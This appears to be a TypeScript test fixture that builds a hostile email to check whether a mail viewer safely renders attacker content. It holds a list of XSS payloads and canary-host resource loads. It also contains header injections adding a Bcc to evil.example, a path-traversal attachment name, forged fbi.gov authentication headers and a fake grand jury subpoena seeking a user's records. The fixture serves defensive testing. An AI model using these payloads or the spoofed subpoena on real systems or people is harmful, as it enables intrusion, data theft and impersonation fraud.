/**
 * Script and markup as a mail can carry it: whatever of it is not shown as text leaves an element `xss-probe`, runs
 * `pwned()`, or asks `canary` for something. The shapes are those of the OWASP list for each place in a page.
 */
export function payloads(canary: string): string[] {
  return [
    '<xss-probe>',
    '<script>pwned()</script>',
    `<script src="${canary}/script.js"></script>`,
    `<img src=x onerror=pwned()>`,
    `<img src="${canary}/pixel.png">`,
    '<svg onload=pwned()>',
    '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
    `<iframe srcdoc="<script>parent.pwned()</script>"></iframe>`,
    `<link rel=stylesheet href="${canary}/style.css">`,
    `<style>@import "${canary}/import.css"</style>`,
    `<meta http-equiv=refresh content="0;url=${canary}/refresh">`,
    `<base href="${canary}/">`,
    `<form action="${canary}/form"><button>Sign in</button></form>`,
    `<object data="${canary}/object"></object>`,
    '" autofocus onfocus=pwned() x="',
    "' onmouseover=pwned() x='",
    '"><xss-probe x="',
    "'><xss-probe x='",
    '</title><xss-probe>',
    '</textarea><xss-probe>',
    '</script><xss-probe>',
    '--><xss-probe><!--',
    ']]><xss-probe>',
    '<a href="javascript:pwned()">Look</a>',
    'javascript:pwned()',
    '<details open ontoggle=pwned()>',
    '\u202e<xss-probe>\u202c',
    '&lt;xss-probe&gt; &#60;xss-probe&#62;',
    '\\u003cxss-probe\\u003e',
    `\${pwned()} {{constructor.constructor('pwned()')()}} <%= pwned() %>`,
    '<x\u0000ss-probe><xss-probe/x="y">',
  ]
}

const word = (text: string) => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`
/** RFC 2231: a file name of any letters. */
const named = (name: string) => `filename*=utf-8''${encodeURIComponent(name).replaceAll("'", '%27')}`

/** A grand jury's subpoena of a proven officer, whose every word that a page may show is hostile. */
export function hostileMail(canary: string): Buffer {
  const all = payloads(canary)
  const [probe = ''] = all
  const attachment = (type: string, name: string, text: string) => [
    `Content-Type: ${type}`,
    `Content-Disposition: attachment; ${named(name)}`,
    'Content-Transfer-Encoding: base64',
    '',
    Buffer.from(text).toString('base64'),
  ]
  const parts = [
    ['Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: base64', '', base64(demand(all))],
    [
      'Content-Type: text/html; charset=utf-8',
      '',
      `<html><body>${all.join('<p>')}</body></html>`.replace('\u0000', ''),
    ],
    attachment('text/plain', `${probe}"><img src=x onerror=pwned()>.txt`, all.join('\n')),
    attachment('text/html', '../../../../etc/passwd', `<html><body onload=pwned()>${all.join('<br>')}</body></html>`),
    attachment(
      'image/svg+xml',
      `x.svg' onload='pwned()`,
      `<svg onload="pwned()"><image href="${canary}/svg.png"/></svg>`,
    ),
    [
      'Content-Type: message/rfc822',
      '',
      `From: ${word(`${probe} Chief`)} <chief@town.example>`,
      `Subject: ${word(`${probe}<script>pwned()</script>`)}`,
      'To: legal@kutano.example',
      '',
      `Forwarded ${probe}`,
    ],
    [
      `Content-Type: message/external-body; access-type=URL; URL="${canary}/external"`,
      '',
      'Content-Type: application/pdf',
      '',
    ],
  ]
  const head = [
    'Authentication-Results: mx.kutano.example; dkim=pass header.d=fbi.gov; spf=pass smtp.mailfrom=fbi.gov; dmarc=pass header.from=fbi.gov',
    'Received: from mail.fbi.gov by mx.kutano.example; Fri, 20 Nov 2026 10:00:00 +0000',
    `From: ${word(`Jo Roe ${probe}\r\nBcc: victim@evil.example`)} <jo.roe@fbi.gov>`,
    'To: legal@kutano.example',
    `Reply-To: ${word(`<script>pwned()</script>`)} <jo.roe@fbi.gov>`,
    `Subject: ${word(`Subpoena ${probe}<script>pwned()</script>\r\nBcc: victim@evil.example\r\n\r\nX`)}`,
    'Date: Fri, 20 Nov 2026 10:00:00 +0000',
    `Message-ID: <"${probe}"@fbi.gov>`,
    `References: <a@fbi.gov>\r\n <${probe}@fbi.gov>`,
    `Disposition-Notification-To: jo.roe@fbi.gov`,
    `List-Unsubscribe: <${canary}/unsubscribe>`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary=frontier',
  ]
  const body = parts.map((part) => `--frontier\r\n${part.join('\r\n')}\r\n`).join('')
  return Buffer.from(`${head.join('\r\n')}\r\n\r\n${body}--frontier--\r\n`)
}

const base64 = (text: string) => Buffer.from(text).toString('base64')

function demand(all: readonly string[]): string {
  return `UNITED STATES DISTRICT COURT
for the Northern District of <xss-probe> Illinois

SUBPOENA TO TESTIFY BEFORE A GRAND JURY

To: Kutano, Inc.

YOU ARE COMMANDED to appear before this court's grand jury and to produce the
following records, in the investigation of wire fraud <script>pwned()</script>, 18 U.S.C. 1343:

Name, email address, login history with IP addresses and means of payment of
the user "><xss-probe>joann@acme.example of the Kutano workspace acme.kutano.example
from January 1, 2026 to March 31, 2026.

Grand Jury No. GJ-2026-"><xss-probe>114
Return date: December 18, 2026

/s/ Maria <img src=x onerror=pwned()> Gomez, Clerk of Court

Special Agent Jo <xss-probe> Roe
Federal Bureau of <xss-probe> Investigation
2111 West Roosevelt Road <svg onload=pwned()>, Chicago, Illinois
jo.roe@fbi.gov
+1 312 555 0142

${all.join('\n')}
`
}
